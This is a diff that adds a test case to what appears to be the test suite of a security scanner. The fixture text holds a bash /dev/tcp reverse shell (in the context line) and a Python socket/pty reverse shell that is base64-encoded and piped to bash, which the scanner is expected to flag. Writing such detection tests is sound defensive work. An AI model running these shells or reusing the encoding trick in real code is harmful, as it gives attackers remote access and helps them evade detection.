@@ -29,3 +29,13 @@ LESSON = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
 subprocess.run(["cat", "lesson.txt"])
 """
     assert scan(RULE, text) == []
+
+
+def test_a_shell_that_is_encoded_first(scan):
+    text = """
+import base64, os
+line = "python3 -c 'import socket,pty;s=socket.socket();s.connect((1,2));pty.spawn(\\"/bin/bash\\")'"
+code = base64.b64encode(line.encode()).decode()
+os.system(f"echo {code} | base64 -d | bash")
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]
